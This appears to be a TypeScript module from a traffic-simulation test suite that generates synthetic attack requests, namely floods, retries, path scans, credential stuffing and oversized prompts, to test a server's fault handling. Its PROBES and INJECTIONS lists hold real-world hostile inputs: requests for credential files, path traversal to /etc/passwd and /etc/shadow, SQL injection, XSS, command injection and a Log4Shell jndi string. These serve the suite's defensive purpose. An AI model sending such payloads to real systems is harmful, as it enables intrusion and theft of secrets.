// The requests that a fault adds: floods, retries, scans, stolen passwords, huge prompts. What an attacker
// asks for is our own list in the manner of what every public server sees within an hour.

import type { Prng } from "../lib/prng";
import { exponential } from "../model/exact-math";
import { levelsOf } from "./fault-class";
import { hexText, ordinaryRequest } from "./request-maker";
import type { Episode, SuiteRequest } from "./scenario";
import type { SuiteRoute } from "./suite-routes";

/** Clients of a fault are from here on, so that they are nobody's ordinary callers. */
const ATTACKER_BASE = 0x900000;
const FLOOD_SIZE = 10;
const FLOOD_OUTPUT = 3;
const BOMB_RATE = 0.1;
const BYTES_PER_TOKEN = 4;
/** Prompts above this are cut by the model; it takes no longer for more. */
const PROMPT_TOKENS_MAX = 32_000;
const RETRIES_MAX = 4;
/** Pause before a second try; doubles with each further one. */
const BACKOFF_MS = 50;
const STUFFING_CLIENTS = [1, 6, 40] as const;

const PROBES = [
  ".env",
  ".git/config",
  ".aws/credentials",
  "wp-login.php",
  "wp-admin/install.php",
  "phpinfo.php",
  "phpmyadmin/index.php",
  "admin/config.php",
  "actuator/env",
  "actuator/heapdump",
  "server-status",
  "cgi-bin/printenv.pl",
  "..%2f..%2f..%2fetc%2fpasswd",
  "%2e%2e/%2e%2e/windows/win.ini",
  "vendor/autoload.php",
  "backup.zip",
  "db.sql.gz",
  "config.bak",
  "api-docs/swagger.json",
  "console/login.jsp",
] as const;

const INJECTIONS = [
  "?id=1%27%20OR%20%271%27=%271",
  "?id=1%20UNION%20SELECT%20NULL,NULL,version()--",
  "?q=%3Cscript%3Ealert(1)%3C/script%3E",
  "?file=../../../../etc/shadow",
  "?cmd=;cat%20/etc/hosts",
  "?page=php://filter/convert.base64-encode/resource=index",
  "?u=${jndi:ldap://a.invalid/x}",
] as const;

/** Requests that the episode adds to its route, in no order. */
export function extraRequests(
  route: SuiteRoute,
  episode: Episode,
  ordinary: readonly SuiteRequest[],
  random: Prng,
): SuiteRequest[] {
  const level = levelsOf(episode.fault)[episode.intensity];
  switch (episode.fault) {
    case "token-flood":
      return tokenFlood(route, episode, level, random);
    case "retry-storm":
      return retries(route, episode, level, ordinary, random);
    case "scan":
      return scan(route, episode, level, random);
    case "credential-stuffing":
      return stuffing(route, episode, level, random);
    case "prompt-bomb":
      return bombs(route, episode, level, random);
    default:
      return [];
  }
}

/** Ordinary requests of the route at so many per second, through the episode. */
function added(
  route: SuiteRoute,
  { route: index, fromMs, untilMs }: Episode,
  rateHz: number,
  random: Prng,
): SuiteRequest[] {
  const requests: SuiteRequest[] = [];
  let atMs = fromMs + exponential(random, 1000 / rateHz);
  while (atMs < untilMs) {
    const request = ordinaryRequest(route, index, atMs, random);
    requests.push({ ...request, answer: 0, isExtra: true });
    atMs += exponential(random, 1000 / rateHz);
  }
  return requests;
}

function attacker(random: Prng): number {
  return ATTACKER_BASE + random.below(0x100000);
}

function tokenFlood(
  route: SuiteRoute,
  episode: Episode,
  times: number,
  random: Prng,
): SuiteRequest[] {
  const client = attacker(random);
  return added(route, episode, times * route.rateHz, random).map((one) => ({
    ...one,
    client,
    contentBytes: FLOOD_SIZE * one.contentBytes,
    promptTokens: Math.min(PROMPT_TOKENS_MAX, FLOOD_SIZE * one.promptTokens),
    outputTokens: FLOOD_OUTPUT * one.outputTokens,
  }));
}

/**
 * Retries of the route's own requests. Which ones are tried again is drawn at the arms' error rate and
 * not read off the answers: the list is then the same whatever happens, and as long as a real one.
 */
function retries(
  route: SuiteRoute,
  episode: Episode,
  permille: number,
  ordinary: readonly SuiteRequest[],
  random: Prng,
): SuiteRequest[] {
  const requests: SuiteRequest[] = [];
  for (const first of ordinary) {
    if (first.atMs < episode.fromMs || first.atMs >= episode.untilMs) continue;
    let atMs = first.atMs;
    for (let attempt = 2; attempt <= 1 + RETRIES_MAX; attempt++) {
      if (random.below(1000) >= permille) break;
      atMs += BACKOFF_MS * 2 ** (attempt - 2) * (0.5 + random.uniform());
      const arm = random.below(route.arms.length);
      requests.push({ ...first, atMs, arm, attempt, isExtra: true });
    }
  }
  return requests;
}

function scan(route: SuiteRoute, episode: Episode, times: number, random: Prng): SuiteRequest[] {
  const client = attacker(random);
  return added(route, episode, times * route.rateHz, random).map((one) => ({
    ...one,
    client,
    method: "GET",
    path: probePath(route, random),
    contentBytes: 0,
    answer: 404,
  }));
}

function probePath(route: SuiteRoute, random: Prng): string {
  switch (random.below(4)) {
    case 0:
      return `${route.prefix}${INJECTIONS[random.below(INJECTIONS.length)]!}`;
    case 1:
      return `${route.prefix}/${hexText(random, 6)}/${PROBES[random.below(PROBES.length)]!}`;
    case 2:
      return `${route.prefix}/${PROBES[random.below(PROBES.length)]!}?${hexText(random, 4)}`;
    default:
      return `${route.prefix}/${PROBES[random.below(PROBES.length)]!}`;
  }
}

function stuffing(
  route: SuiteRoute,
  episode: Episode,
  times: number,
  random: Prng,
): SuiteRequest[] {
  const first = attacker(random);
  const clients = STUFFING_CLIENTS[random.below(STUFFING_CLIENTS.length)]!;
  return added(route, episode, times * route.rateHz, random).map((one) => ({
    ...one,
    client: first + random.below(clients),
    answer: 401,
  }));
}

function bombs(route: SuiteRoute, episode: Episode, kib: number, random: Prng): SuiteRequest[] {
  const clients = Array.from({ length: 3 }, () => attacker(random));
  return added(route, episode, BOMB_RATE * route.rateHz, random).map((one) => {
    const contentBytes = Math.round(kib * 1024 * (0.8 + 0.4 * random.uniform()));
    const promptTokens = Math.min(PROMPT_TOKENS_MAX, Math.round(contentBytes / BYTES_PER_TOKEN));
    return {
      ...one,
      client: clients[random.below(clients.length)]!,
      contentBytes,
      promptTokens: route.promptTokens === 0 ? 0 : promptTokens,
    };
  });
}
